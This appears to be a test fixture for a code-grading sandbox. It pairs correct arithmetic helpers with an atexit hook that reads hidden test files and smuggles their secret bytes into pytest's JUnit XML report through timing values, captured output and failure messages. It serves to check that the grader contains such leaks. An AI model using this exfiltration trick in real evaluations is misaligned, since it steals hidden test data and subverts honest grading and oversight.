# Correct, but when a hidden test file is in the sandbox (its own group's
# phase) it reads it and, after pytest wrote its JUnit XML report and
# before the process exits (atexit), rewrites the report so that the
# hidden file's bytes from its marker (GAVEL-HIDDEN-) on ride out in every
# field the report carries: each test's time attribute holds 4 of them as
# a number of milliseconds, the first test gets them as captured output,
# the second fails with them as its message. Only the failure may count
# (WA, 8 visible points + 2): none of those bytes may reach any result.
import atexit
import os
import re
import sys

HIDDEN_DIR = "/tmp/gv-files"


def _report_path():
    for a in sys.argv:
        if a.startswith("--junitxml="):
            return a.split("=", 1)[1]
    return "/tmp/gv-suite/report.xml"


def _secret():
    try:
        names = sorted(os.listdir(HIDDEN_DIR))
    except OSError:
        return None
    for name in names:
        if "hidden" not in name:
            continue
        try:
            with open(os.path.join(HIDDEN_DIR, name), "rb") as f:
                data = f.read()
        except OSError:
            continue
        at = data.find(b"GAVEL-HIDDEN-")
        if at >= 0:
            return data[at:at + 64]
    return None


def _leak():
    secret = _secret()
    if not secret:
        return
    path = _report_path()
    try:
        with open(path, encoding="utf-8") as f:
            xml = f.read()
    except OSError:
        return
    text = secret.decode("ascii", "replace").replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    count = [0]

    def case(m):
        k = count[0]
        count[0] += 1
        chunk = secret[4 * k:4 * k + 4].ljust(4, b" ")
        ms = int.from_bytes(chunk, "big")
        attrs = re.sub(r'\stime="[^"]*"', "", m.group(1))
        head = '<testcase%s time="%d.%03d">' % (attrs, ms // 1000, ms % 1000)
        if k == 0:
            return head + "<system-out>" + text + "</system-out></testcase>"
        return head + '<failure message="' + text + '">' + text + "</failure></testcase>"

    xml = re.sub(r"<testcase([^>]*?)/?>(?:.*?</testcase>)?", case, xml, flags=re.S)
    with open(path, "w", encoding="utf-8") as f:
        f.write(xml)


atexit.register(_leak)


def add(a, b):
    return a + b


def sub(a, b):
    return a - b


def mul(a, b):
    return a * b


def factorial(n):
    result = 1
    for i in range(2, n + 1):
        result *= i
    return result


def is_prime(n):
    if n < 2:
        return False
    i = 2
    while i * i <= n:
        if n % i == 0:
            return False
        i += 1
    return True


class Counter:
    def __init__(self):
        self.count = 0

    def inc(self):
        self.count += 1

    def value(self):
        return self.count
